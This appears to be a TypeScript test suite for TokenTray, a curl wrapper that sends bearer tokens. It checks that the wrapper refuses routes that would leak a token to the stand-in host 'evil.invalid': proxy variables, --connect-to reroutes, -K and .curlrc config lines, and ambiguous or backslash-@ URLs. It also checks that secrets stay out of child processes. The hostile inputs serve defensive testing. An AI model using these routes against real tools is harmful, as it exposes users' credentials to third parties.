import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { chmod, mkdir, readFile, readdir, writeFile } from 'node:fs/promises';
import { createServer, type Server, type Socket } from 'node:net';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { signInThroughCore } from './support/flows.js';
import { runCliWith } from './support/hostile.js';
import { startTestIdp, type TestIdp } from './support/idp.js';
import { makeSandbox, runCliInProcess, startCli, type Sandbox } from './support/sandbox.js';
import { startHttps } from './support/tools.js';
import { checkCurlArgs, parseCurlArgs, curlTarget } from '../electron/core/integrations/curl-args.js';
import { TokenTrayError } from '../electron/core/shared/errors.js';
import { SECRET_ENV } from '../electron/core/shared/child-env.js';
import { PASSPHRASE_ENV } from '../electron/core/storage/vault-passphrase.js';
import { openBrowser } from '../electron/cli/open-browser.js';

/**
 * A raw TCP server on 127.0.0.1 standing in for "another host" (evil.invalid): it records every
 * byte it is sent. It answers HTTP requests (a proxy's too) with 200, and speaks just enough SOCKS5
 * to be handed the request a SOCKS proxy would forward.
 */
async function startCapture(
  redirectTo = (): string | undefined => undefined,
): Promise<{ server: Server; port: number; seen: () => string; reset: () => void }> {
  let seen = '';
  const server = createServer((socket: Socket) => {
    let socks = 0;
    socket.on('data', (d: Buffer) => {
      if ((socks === 0 && d[0] === 5) || socks === 1) {
        // greeting -> no authentication; connect request -> succeeded
        socket.write(socks === 0 ? Buffer.from([5, 0]) : Buffer.from([5, 0, 0, 1, 127, 0, 0, 1, 0, 80]));
        socks++;
        return;
      }
      socks = 2;
      seen += d.toString('latin1');
      const location = seen.startsWith('GET /redirect ') ? redirectTo() : undefined;
      if (location && /\r\n\r\n/.test(seen)) socket.end(`HTTP/1.1 302 Found\r\nLocation: ${location}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`);
      else if (/\r\n\r\n/.test(seen)) socket.end('HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok');
    });
    socket.on('error', () => undefined);
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { server, port: (server.address() as AddressInfo).port, seen: () => seen, reset: () => (seen = '') };
}

describe('tokentray curl sends the token only where it checked (issue 18 §3)', () => {
  let idp: TestIdp;
  let sandbox: Sandbox;
  let env: Record<string, string>;
  let capture: Awaited<ReturnType<typeof startCapture>>;
  let local: Awaited<ReturnType<typeof startCapture>>;
  let token: string;
  let localUrl: string;
  let evil: string;
  let files: string;

  before(async () => {
    idp = await startTestIdp({ mode: 'google' });
    sandbox = await makeSandbox();
    const core = sandbox.core();
    await signInThroughCore(core, idp, 'lee@example.test');
    token = (await core.tokens.getAccessToken(await core.accounts.resolve())).token;
    capture = await startCapture();
    local = await startCapture(() => `http://${evil}/`);
    localUrl = `http://127.0.0.1:${local.port}/v1`;
    evil = `evil.invalid:${capture.port}`;
    // A curl first on PATH that maps evil.invalid to the capture server with curl's own --resolve
    // (no DNS), keeping tokentray's -q first, as curl requires it.
    const bin = await sandbox.dir('bin');
    files = await sandbox.dir('files-curl');
    await writeFile(
      join(bin, 'curl'),
      `#!/bin/sh\nif [ "$1" = -q ]; then shift; set -- -q --resolve ${evil}:127.0.0.1 "$@"; else set -- --resolve ${evil}:127.0.0.1 "$@"; fi\nexec /usr/bin/curl "$@"\n`,
    );
    await chmod(join(bin, 'curl'), 0o700);
    const home = await sandbox.dir('user-home');
    env = { ...sandbox.env, PATH: `${bin}:${process.env.PATH}`, HOME: home };
    for (const name of ['http_proxy', 'https_proxy', 'HTTPS_PROXY', 'ALL_PROXY', 'all_proxy', 'no_proxy', 'NO_PROXY', 'CURL_HOME', 'XDG_CONFIG_HOME'])
      delete env[name];
  });
  after(async () => {
    capture.server.close();
    local.server.close();
    await sandbox.cleanup();
    await idp.close();
  });

  async function run(args: string[], extraEnv: Record<string, string> = {}, stdin?: string) {
    capture.reset();
    local.reset();
    const res = await runCliWith(['curl', ...args], { ...env, ...extraEnv }, { ...(stdin !== undefined ? { stdin } : {}), killAfterMs: 20_000 });
    assert.ok(!capture.seen().includes(token), `the other host got the token: tokentray curl ${args.join(' ')}`);
    return res;
  }

  const routes: Array<{ what: string; args: () => string[]; env?: () => Record<string, string>; stdin?: () => string; code: RegExp; curlrc?: () => string }> = [
    { what: 'a backslash before @ (Node sees 127.0.0.1, curl evil.invalid)', args: () => [`http://127.0.0.1\\@${evil}/`, '-s'], code: /AMBIGUOUS_URL/ },
    { what: 'a globbed scheme in a later URL', args: () => [localUrl, '-s', `h{ttp,ttp}://${evil}/`], code: /AMBIGUOUS_URL/ },
    { what: 'a later URL without a scheme', args: () => [localUrl, '-s', `${evil}/x`], code: /INSECURE_URL/ },
    { what: '--url without a scheme', args: () => [localUrl, '-s', '--url', `${evil}/x`], code: /INSECURE_URL/ },
    { what: '-K FILE with url = "http://…"', args: () => [localUrl, '-s', '-K', join(files, 'k.conf')], code: /CURL_OPTION_REFUSED: curl's -K is refused/ },
    {
      what: '-K - with url = "http://…" on stdin',
      args: () => [localUrl, '-s', '-K', '-'],
      stdin: () => `url = "http://${evil}/"\n`,
      code: /CURL_OPTION_REFUSED/,
    },
    { what: '--config FILE', args: () => [localUrl, '-s', '--config', join(files, 'k.conf')], code: /CURL_OPTION_REFUSED/ },
    {
      what: '--location-trusted and a redirect to http',
      args: () => [`http://127.0.0.1:${local.port}/redirect`, '-s', '--location-trusted'],
      code: /CURL_OPTION_REFUSED: curl's --location-trusted is refused/,
    },
    { what: '--proxy for a plain-http URL', args: () => [localUrl, '-s', '--proxy', `http://${evil}`], code: /INSECURE_URL: .*--proxy/ },
    { what: '-x combined with -s', args: () => [localUrl, `-sx${evil}`], code: /INSECURE_URL: .*--proxy/ },
    { what: '--socks5-hostname', args: () => [localUrl, '-s', '--socks5-hostname', evil], code: /INSECURE_URL: .*--socks5-hostname/ },
    {
      what: '--connect-to another host',
      args: () => [localUrl, '-s', '--connect-to', `127.0.0.1:${local.port}:evil.invalid:${capture.port}`],
      code: /INSECURE_URL: --connect-to/,
    },
    { what: 'http_proxy in the environment', args: () => [localUrl, '-s'], env: () => ({ http_proxy: `http://${evil}` }), code: /INSECURE_URL: .*http_proxy/ },
    { what: 'ALL_PROXY in the environment', args: () => [localUrl, '-s'], env: () => ({ ALL_PROXY: `socks5h://${evil}` }), code: /INSECURE_URL: .*ALL_PROXY/ },
    {
      what: '-k: an https URL without certificate checks to another host',
      args: () => ['https://example.invalid/', '-sk'],
      code: /INSECURE_URL: example\.invalid is not this machine and the URL is https without certificate checks/,
    },
    {
      what: '-k: an https URL through https_proxy',
      args: () => [`https://127.0.0.1:${local.port}/`, '-s', '--insecure'],
      env: () => ({ https_proxy: `http://${evil}` }),
      code: /INSECURE_URL: .*https_proxy/,
    },
    {
      what: 'a later --noproxy "" undoing --noproxy "*"',
      args: () => [localUrl, '-s', '--noproxy', '*', '--noproxy', ''],
      env: () => ({ http_proxy: `http://${evil}` }),
      code: /INSECURE_URL: .*http_proxy/,
    },
    {
      what: 'NO_PROXY when no_proxy is set (curl reads no_proxy first, even empty)',
      args: () => [localUrl, '-s'],
      env: () => ({ http_proxy: `http://${evil}`, no_proxy: '', NO_PROXY: '127.0.0.1' }),
      code: /INSECURE_URL: .*http_proxy/,
    },
    {
      what: 'a no-proxy entry only a suffix of the host (0.0.1)',
      args: () => [localUrl, '-s'],
      env: () => ({ http_proxy: `http://${evil}`, NO_PROXY: '0.0.1,.0.0.1' }),
      code: /INSECURE_URL: .*http_proxy/,
    },
    {
      what: 'a proxy spelled 127.1 (not how the URL parser writes this machine)',
      args: () => [localUrl, '-s', '-x', `http://127.1:${capture.port}`],
      code: /INSECURE_URL: .*--proxy/,
    },
    {
      what: 'an option TokenTray does not know (--next)',
      args: () => [localUrl, '-s', '--next', `http://${evil}/`],
      code: /CURL_OPTION_REFUSED: curl's --next is refused/,
    },
    {
      what: 'an unknown option',
      args: () => [localUrl, '-s', '--doh-url', `http://${evil}/`],
      code: /CURL_OPTION_REFUSED: curl's --doh-url is not one TokenTray passes on/,
    },
  ];

  before(async () => writeFile(join(files, 'k.conf'), `url = "http://${evil}/"\n`));

  /** A refusal, in this process: curl's checks are logic, and its child must never start. */
  async function refuse(args: string[], extraEnv: Record<string, string> = {}, stdin?: string) {
    capture.reset();
    local.reset();
    const res = await runCliInProcess(['curl', ...args], { ...env, ...extraEnv }, { refusal: true, ...(stdin !== undefined ? { stdin } : {}) });
    assert.ok(!capture.seen().includes(token), `the other host got the token: tokentray curl ${args.join(' ')}`);
    return res;
  }

  for (const route of routes) {
    it(`refuses ${route.what}, and the other host never sees the token`, async () => {
      const res = await refuse(route.args(), route.env?.() ?? {}, route.stdin?.());
      assert.equal(res.code, 1, res.stderr);
      assert.match(res.stderr, new RegExp(`^tokentray: ${route.code.source}`, 'm'));
      assert.equal(local.seen(), '', 'curl did not run');
    });
  }

  it('reads no ~/.curlrc (curl would, unless -q comes first)', async () => {
    await writeFile(join(env.HOME, '.curlrc'), `url = "http://${evil}/"\nproxy = "http://${evil}"\n`);
    try {
      const res = await run([localUrl, '-s']);
      assert.equal(res.code, 0, res.stderr);
      assert.match(local.seen(), new RegExp(`Authorization: Bearer ${token}`), 'the checked URL got the token');
      assert.equal(capture.seen(), '', 'curlrc sent nothing anywhere');
    } finally {
      await writeFile(join(env.HOME, '.curlrc'), '');
    }
  });

  it('lets an https URL go through a plain-http proxy: the token travels inside TLS', async () => {
    const res = await run([`https://example.invalid:${capture.port}/`, '-s', '-x', `http://${evil}`]);
    assert.doesNotMatch(res.stderr, /^tokentray:/m, 'not refused');
    assert.notEqual(res.code, 0, 'the stand-in proxy cannot complete TLS');
    assert.match(capture.seen(), /^CONNECT example\.invalid:\d+ HTTP\/1\.1/, 'curl asked the proxy for a tunnel');
  });

  it('-k with --connect-to another host: refused, and the host without a checked certificate never sees the token', async () => {
    const seen: string[] = [];
    const tls = await startHttps(join(files, 'tls'), (req, res) => (seen.push(String(req.headers.authorization)), res.end('ok')));
    try {
      const res = await refuse([
        `https://localhost:${tls.port}/`,
        '-sk',
        '--resolve',
        `evil.invalid:${tls.port}:127.0.0.1`,
        '--connect-to',
        `localhost:${tls.port}:evil.invalid:${tls.port}`,
      ]);
      assert.equal(res.code, 1, res.stderr);
      assert.match(
        res.stderr,
        /^tokentray: INSECURE_URL: --connect-to localhost:\d+:evil\.invalid:\d+ sends a URL without certificate checks to another machine/m,
      );
      assert.deepEqual(seen, []);
      // Rerouted to this machine, -k is fine.
      const ok = await run([`https://localhost:${tls.port}/`, '-sk', '--connect-to', `localhost:${tls.port}:127.0.0.1:${tls.port}`]);
      assert.equal(ok.code, 0, ok.stderr);
      assert.deepEqual(seen, [`Bearer ${token}`]);
    } finally {
      await tls.close();
    }
  });

  it('--cacert with --connect-to another host: refused as -k is, and the host its CA vouches for never sees the token', async () => {
    const seen: string[] = [];
    const dir = join(files, 'tls-own-ca');
    const tls = await startHttps(dir, (req, res) => (seen.push(String(req.headers.authorization)), res.end('ok')));
    const ca = ['--cacert', join(dir, 'cert.pem')];
    try {
      const rerouted = await refuse([
        `https://127.0.0.1:${tls.port}/`,
        '-s',
        ...ca,
        '--resolve',
        `evil.invalid:${tls.port}:127.0.0.1`,
        '--connect-to',
        `127.0.0.1:${tls.port}:evil.invalid:${tls.port}`,
      ]);
      assert.equal(rerouted.code, 1, rerouted.stderr);
      assert.match(
        rerouted.stderr,
        /^tokentray: INSECURE_URL: --connect-to 127\.0\.0\.1:\d+:evil\.invalid:\d+ sends a https URL checked only against a CA the command brings/m,
      );
      const proxied = await refuse([`https://127.0.0.1:${tls.port}/`, '-s', '--capath', dir, '-x', 'http://proxy.invalid:3128']);
      assert.match(proxied.stderr, /^tokentray: INSECURE_URL: A https URL checked only against a CA the command brings .* proxy of --proxy/m);
      assert.deepEqual(seen, []);
      // The same CA without a reroute: curl checked the server against it, and the token goes.
      const direct = await run([`https://127.0.0.1:${tls.port}/`, '-s', ...ca]);
      assert.equal(direct.code, 0, direct.stderr);
      assert.deepEqual(seen, [`Bearer ${token}`]);
    } finally {
      await tls.close();
    }
  });

  it('honours the no-proxy list as curl does: the token goes direct to this machine, never to the proxy', async () => {
    const cases: Array<{ url: string; args?: string[]; env: Record<string, string> }> = [
      { url: localUrl, env: { NO_PROXY: '127.0.0.1' } },
      { url: localUrl, env: { no_proxy: 'example.test, 127.0.0.1', NO_PROXY: '' } },
      { url: `http://localhost:${local.port}/v1`, env: { no_proxy: 'example.test,.localhost.' } },
      { url: localUrl, args: ['--noproxy', '127.0.0.1'], env: { NO_PROXY: 'example.test' } },
    ];
    for (const c of cases) {
      const res = await run([c.url, '-s', ...(c.args ?? [])], { http_proxy: `http://${evil}`, ...c.env });
      assert.equal(res.code, 0, `${JSON.stringify(c)}: ${res.stderr}`);
      assert.match(local.seen(), new RegExp(`Authorization: Bearer ${token}`), JSON.stringify(c));
      assert.equal(capture.seen(), '', `curl did not use the proxy: ${JSON.stringify(c)}`);
    }
  });

  it('passes combined short options, option values and loopback reroutes through', async () => {
    const out = join(files, 'out.txt');
    const res = await run(
      [localUrl, '-sSo', out, '-H', 'X-Mine: 1', '--connect-to', `example.invalid:80:127.0.0.1:${local.port}`, '-w', '%{http_code}', '--noproxy', '*'],
      { http_proxy: `http://${evil}` },
    );
    assert.equal(res.code, 0, res.stderr);
    assert.equal(res.stdout, '200');
    assert.equal(await readFile(out, 'utf8'), 'ok');
    assert.match(local.seen(), /X-Mine: 1/);
    // -L without --location-trusted: curl drops the header on a redirect to another host.
    const redirect = createServer((s) =>
      s.once('data', () => s.end(`HTTP/1.1 302 Found\r\nLocation: http://${evil}/\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`)),
    );
    await new Promise<void>((r) => redirect.listen(0, '127.0.0.1', r));
    try {
      const followed = await run([`http://127.0.0.1:${(redirect.address() as AddressInfo).port}/`, '-sL']);
      assert.equal(followed.code, 0, followed.stderr);
      assert.match(capture.seen(), /^GET \/ HTTP/, 'the redirect was followed, without the token');
    } finally {
      redirect.close();
    }
  });

  it('reads URLs the way curl does, or refuses them', () => {
    const parsed = parseCurlArgs(['-sSo', 'out', 'a.test', '--url', 'b.test', '-H', 'x.test', '--', '-c.test']);
    assert.deepEqual(parsed.urls, ['a.test', '-c.test', 'b.test']);
    assert.deepEqual(parsed.values.get('output'), ['out']);
    assert.deepEqual(curlTarget('http://[::1]:8080/x', false), { scheme: 'http', host: '[::1]' });
    assert.deepEqual(curlTarget('localhost:8080/x', false), { scheme: 'http', host: 'localhost' });
    assert.deepEqual(curlTarget('https://x.test/a[1-2]', true), { scheme: 'https', host: 'x.test' });
    for (const bad of [
      'http://a b/',
      'http://127.0.0.1\t/',
      'http://u@127.0.0.1/',
      'http:/127.0.0.1/',
      'http:///127.0.0.1/',
      'http://127.1/',
      'http://%3127.0.0.1/',
      'http://x.test/[1-2]',
      'http://ex\u00e4mple.test/',
    ]) {
      assert.throws(() => curlTarget(bad, false), /refused/, bad);
    }
  });
});

describe('the no-proxy list, read by TokenTray and by the real curl (issue 19 §3)', () => {
  /** Runs /usr/bin/curl as tokentray curl would (-q first), with `evil.invalid` mapped to the proxy's port. */
  function realCurl(args: string[], env: Record<string, string>): Promise<number> {
    return new Promise((resolve) => {
      const child = spawn('/usr/bin/curl', ['-q', ...args], { env: { PATH: process.env.PATH ?? '/usr/bin:/bin', ...env }, stdio: 'ignore' });
      child.on('close', (code) => resolve(code ?? -1));
    });
  }

  it('whenever TokenTray lets a no-proxy list skip the proxy check, curl does not use the proxy', async () => {
    const proxy = await startCapture();
    const direct = await startCapture();
    try {
      const entries = [
        '127.0.0.1',
        'localhost',
        '.localhost',
        'localhost.',
        'LOCALHOST',
        '::1',
        '[::1]',
        '127.0.0.0/8',
        '0.0.1',
        '.0.0.1',
        'host',
        'calhost',
        '*',
        '127.0.0.1:80',
        '127.000.0.1',
      ];
      const lists = [...entries, '', ' ', ',', ...entries.flatMap((a, i) => [`${a},${entries[(i + 3) % entries.length]}`, `x.test ${a}`, ` ${a} `, `*,${a}`])];
      const hosts = ['127.0.0.1', 'localhost', '[::1]'];
      let skipped = 0;
      for (const list of lists) {
        for (const host of hosts) {
          for (const where of ['no_proxy', 'NO_PROXY', '--noproxy'] as const) {
            const url = `http://${host}:${direct.port}/`;
            const args = [url, '-s', '-m', '5', ...(where === '--noproxy' ? ['--noproxy', list] : [])];
            const env = { http_proxy: `http://evil.invalid:${proxy.port}`, ...(where === '--noproxy' ? {} : { [where]: list }) };
            let skips: boolean;
            try {
              checkCurlArgs(args, env, false);
              skips = true;
            } catch (err) {
              if (!(err instanceof TokenTrayError) || err.code !== 'INSECURE_URL') throw err;
              skips = false;
            }
            if (!skips) continue;
            skipped++;
            proxy.reset();
            await realCurl([...args, '--resolve', `evil.invalid:${proxy.port}:127.0.0.1`], env);
            assert.equal(proxy.seen(), '', `curl used the proxy for ${url} with ${where}=${JSON.stringify(list)}`);
          }
        }
      }
      assert.ok(skipped > 30, `cases where TokenTray skipped the proxy check: ${skipped}`);
    } finally {
      proxy.server.close();
      direct.server.close();
    }
  });
});

describe('TokenTray secrets stay out of every child (issue 18 §4)', () => {
  it('the passphrase variable is the one the vault reads', () => {
    assert.ok(SECRET_ENV.includes(PASSPHRASE_ENV));
  });

  it('the browser opener gets no TOKENTRAY_FILE_PASSPHRASE', async () => {
    const sandbox = await makeSandbox();
    try {
      const bin = await sandbox.dir('bin');
      const dump = join(sandbox.root, 'opener-env');
      await writeFile(join(bin, 'xdg-open'), `#!/bin/sh\nenv > '${dump}'\n`);
      await chmod(join(bin, 'xdg-open'), 0o700);
      const result = await openBrowser('http://127.0.0.1:1/', {
        env: { PATH: `${bin}:/usr/bin:/bin`, DISPLAY: ':0', TOKENTRAY_FILE_PASSPHRASE: 'pass-canary-1' },
        platform: 'linux',
      });
      assert.deepEqual(result, { opened: true });
      const seen = await readFile(dump, 'utf8');
      assert.match(seen, /^DISPLAY=:0$/m);
      assert.doesNotMatch(seen, /TOKENTRAY_FILE_PASSPHRASE|pass-canary-1/);
    } finally {
      await sandbox.cleanup();
    }
  });

  describe('exec and curl', () => {
    let idp: TestIdp;
    let sandbox: Sandbox;
    let env: Record<string, string>;
    before(async () => {
      idp = await startTestIdp({ mode: 'google' });
      sandbox = await makeSandbox();
      await signInThroughCore(sandbox.core(), idp, 'lee@example.test');
      env = { ...sandbox.env, TOKENTRAY_FILE_PASSPHRASE: 'pass-canary-2', CLOUDSDK_CORE_PROJECT: 'proj-x' };
    });
    after(async () => {
      await sandbox.cleanup();
      await idp.close();
    });

    it('exec, curl and the mkfifo curl runs hand their children no TokenTray secret', async () => {
      const ran = await runCliWith(['exec', '--', 'sh', '-c', 'env'], env);
      assert.equal(ran.code, 0, ran.stderr);
      assert.doesNotMatch(ran.stdout, /TOKENTRAY_FILE_PASSPHRASE|pass-canary-2/);
      // curl: a stand-in first on PATH (for curl and mkfifo both) that writes down its environment.
      const bin = await sandbox.dir('bin-env');
      const dump = await sandbox.dir('env-dumps');
      for (const tool of ['curl', 'mkfifo']) {
        await writeFile(join(bin, tool), `#!/bin/sh\nenv > '${dump}/${tool}'\nexec /usr/bin/${tool} "$@"\n`);
        await chmod(join(bin, tool), 0o700);
      }
      const server = createServer((s) => s.once('data', () => s.end('HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n')));
      await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
      try {
        const res = await runCliWith(['curl', `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, '-s'], {
          ...env,
          PATH: `${bin}:${process.env.PATH}`,
        });
        assert.equal(res.code, 0, res.stderr);
      } finally {
        server.close();
      }
      for (const tool of ['curl', 'mkfifo']) {
        const seen = await readFile(join(dump, tool), 'utf8');
        assert.match(seen, /^PATH=/m, tool);
        assert.doesNotMatch(seen, /TOKENTRAY_FILE_PASSPHRASE|pass-canary-2/, tool);
      }
    });

    it('a SIGKILLed exec leaves a gcloud folder that the next exec removes; gcloud writes no log into it', async () => {
      const base = await sandbox.dir('runtime');
      const runEnv = { ...env, XDG_RUNTIME_DIR: base };
      const job = startCli(['exec', '--', 'sh', '-c', 'echo "$CLOUDSDK_CONFIG $$"; exec sleep 30'], runEnv);
      while (!job.output().includes('\n')) await new Promise((r) => setTimeout(r, 50));
      const [dir, sleeper] = job.output().trim().split(' ') as [string, string];
      assert.ok(dir.startsWith(join(base, 'tokentray-gcloud-')), dir);
      job.kill('SIGKILL');
      // The orphaned `sleep` (the shell exec'd into it) is ours to end, by its pid; before waiting
      // for the killed exec's output to close, as the sleep holds that pipe open for its 30 s.
      process.kill(Number(sleeper), 'SIGKILL');
      await job.done.catch(() => undefined);
      assert.ok((await readdir(base)).length === 1, 'the killed exec left its folder');
      // The folder names the exec's pid, which is gone.
      const listed = await runCliWith(['exec', '--', 'sh', '-c', 'gcloud config list >/dev/null 2>&1; ls -A "$CLOUDSDK_CONFIG"'], runEnv, {
        killAfterMs: 60_000,
      });
      assert.equal(listed.code, 0, listed.stderr);
      assert.doesNotMatch(listed.stdout, /^logs$/m, 'gcloud wrote no log');
      assert.match(listed.stdout, /^configurations$/m);
      assert.deepEqual(await readdir(base), [], 'the orphan was swept, and this run removed its own');
    });

    it("the next curl removes the header-pipe folder of a killed one, and leaves a live process's", async () => {
      const dead = await new Promise<number>((r) => {
        const child = spawn('true');
        child.on('exit', () => r(child.pid!));
      });
      const orphan = join(tmpdir(), `tokentray-curl-${dead}-abc123`);
      const live = join(tmpdir(), `tokentray-curl-${process.pid}-def456`);
      await mkdir(orphan, { mode: 0o700 });
      await mkdir(live, { mode: 0o700 });
      await writeFile(join(orphan, 'header'), '');
      try {
        const res = await runCliWith(['curl', 'http://127.0.0.1:9/', '-s'], env);
        assert.equal(res.code, 7, res.stderr);
        const left = await readdir(tmpdir());
        assert.ok(!left.includes(`tokentray-curl-${dead}-abc123`), 'swept');
        assert.ok(left.includes(`tokentray-curl-${process.pid}-def456`), 'in use: kept');
      } finally {
        const { rm } = await import('node:fs/promises');
        await rm(orphan, { recursive: true, force: true });
        await rm(live, { recursive: true, force: true });
      }
    });
  });
});
